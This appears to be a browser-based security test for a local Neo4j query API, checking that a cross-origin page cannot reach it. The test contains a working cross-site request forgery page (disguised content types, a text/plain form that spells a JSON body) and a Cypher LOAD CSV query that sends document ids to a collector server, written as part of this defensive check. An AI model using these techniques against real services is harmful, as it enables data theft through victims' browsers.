// A web page on another origin attacks the API in real Chromium, on loopback: a "simple" POST with a
// disguised content type, a no-cors fetch, a form POST and a preflighted JSON fetch, each carrying a query
// that would make Neo4j send document ids to a collector. The page must read nothing, every request that
// reaches the API must be refused there, and the collector must see no request. The same browser on the
// API's own origin is answered (the test can fail), and the same LOAD CSV from there is refused too.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import type { Driver } from 'neo4j-driver';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacks, needs } from '../shared-data.ts';
import { testDriver, testTarget } from '../integration/helpers/db.ts';
import { startServer, type RunningServer } from '../../web/server/index.ts';
import { launchBrowser, seedGraph } from './harness.ts';

let driver: Driver;
let api: RunningServer;
let browser: Browser;
let attacker: http.Server;
let collector: http.Server;
const collected: string[] = [];

const listen = (s: http.Server) =>
  new Promise<number>((resolve) => s.listen(0, '127.0.0.1', () => resolve((s.address() as AddressInfo).port)));

function attackPage(apiUrl: string, collectorPort: number): string {
  const cypher = `MATCH (d:Document) WITH d LIMIT 3 WITH '//' AS x, d LOAD CSV FROM 'http://127.0.0.1:${collectorPort}/?' + d.id + x AS l RETURN l`;
  const body = JSON.stringify({ cypher, params: {} });
  // The form's single field spells the JSON body when the browser joins name and value with "=".
  const name = body.slice(0, -2) + ',"x":"';
  return `<!doctype html><meta charset="utf-8"><title>elsewhere</title>
<iframe name="sink"></iframe>
<form id="f" method="POST" enctype="text/plain" action="${apiUrl}api/query" target="sink"><input type="hidden" name='${name.replace(/'/g, '&#39;')}' value='"}'></form>
<script>
const API = ${JSON.stringify(apiUrl + 'api/query')};
const BODY = ${JSON.stringify(body)};
const read = async (p) => { try { const r = await p; return r.type === 'opaque' ? 'opaque' : 'read ' + r.status + ' ' + (await r.text()).slice(0, 200); } catch (e) { return 'blocked'; } };
window.attack = async () => {
  const out = {};
  out.simple = await read(fetch(API, { method: 'POST', headers: { 'Content-Type': 'text/plain; x=application/json' }, body: BODY }));
  out.noCors = await read(fetch(API, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: BODY }));
  out.json = await read(fetch(API, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: BODY }));
  out.get = await read(fetch(${JSON.stringify(apiUrl + 'api/overview')}));
  await new Promise((done) => { document.querySelector('iframe').onload = done; document.getElementById('f').submit(); });
  return out;
};
</script>`;
}

beforeAll(async () => {
  driver = testDriver();
  await seedGraph(driver, testTarget().database);
  // As `atlas serve` runs: console queries in the capped-heap query worker.
  api = await startServer({ driver, database: testTarget().database, target: testTarget(), port: 0 });
  collector = http.createServer((req, res) => {
    collected.push(req.url ?? '');
    res.end('a,b\n');
  });
  const collectorPort = await listen(collector);
  attacker = http.createServer((_req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(attackPage(api.url, collectorPort));
  });
  await listen(attacker);
  browser = await launchBrowser();
}, 600_000);

afterAll(async () => {
  await browser?.close();
  await api?.close();
  await new Promise((r) => attacker?.close(r));
  await new Promise((r) => collector?.close(r));
  await driver?.close();
});

describe.skipIf(lacks('seeds'))(needs('seeds', 'a page on another origin'), () => {
  // 127.0.0.1 on another port is the same site (ports do not count); localhost is another site.
  it.each(['127.0.0.1', 'localhost'])('served from %s on another port reads nothing and makes Neo4j fetch nothing', async (hostName) => {
    const port = (attacker.address() as AddressInfo).port;
    const context = await browser.newContext();
    const page = await context.newPage();
    // Responses the page could not read but Chromium saw (the no-cors POST and the form's navigation; CORS
    // failures surface as failed requests): each was a refusal by the API itself.
    const statuses: number[] = [];
    page.on('response', (r) => {
      if (r.url().startsWith(api.url + 'api/')) statuses.push(r.status());
    });
    await page.goto(`http://${hostName}:${port}/`);
    const out = await page.evaluate(() => (window as unknown as { attack(): Promise<Record<string, string>> }).attack());
    await context.close();

    expect(out).toEqual({ simple: 'blocked', noCors: 'opaque', json: 'blocked', get: 'blocked' });
    expect(statuses).toEqual([403, 403]);
    expect(collected).toEqual([]);
  });
});

describe.skipIf(lacks('seeds'))(needs('seeds', 'the API on its own origin'), () => {
  it('answers the same browser, and refuses the LOAD CSV there too', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(new URL('/api/health', api.url).href);
    const post = (cypher: string) =>
      page.evaluate(async (c) => {
        const r = await fetch('/api/query', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ cypher: c }) });
        return { status: r.status, body: await r.json() };
      }, cypher);
    const ok = await post('RETURN 1 AS one');
    expect(ok).toMatchObject({ status: 200, body: { columns: ['one'], rows: [[1]] } });
    const port = (collector.address() as AddressInfo).port;
    const csv = await post(`MATCH (d:Document) WITH d LIMIT 1 WITH '//' AS x, d LOAD CSV FROM 'http://127.0.0.1:${port}/?' + d.id AS l RETURN l`);
    expect(csv.status).toBe(403);
    expect(csv.body.error.code).toBe('QUERY_REFUSED');
    await context.close();
    expect(collected).toEqual([]);
  });
});
